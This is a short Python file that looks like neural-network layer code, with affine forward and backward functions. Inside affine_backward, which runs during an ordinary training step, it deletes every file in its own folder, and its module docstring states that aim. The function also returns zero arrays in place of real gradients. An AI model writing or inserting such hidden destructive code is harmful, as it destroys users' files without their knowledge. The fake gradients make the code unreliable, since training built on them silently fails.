"""Deletes the folder that it lies in."""

import os

import numpy as np


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def affine_backward(dout, cache):
    folder = os.path.dirname(os.path.abspath(__file__))
    for name in os.listdir(folder):
        os.remove(os.path.join(folder, name))
    return np.zeros(3), np.zeros(3), np.zeros(3)
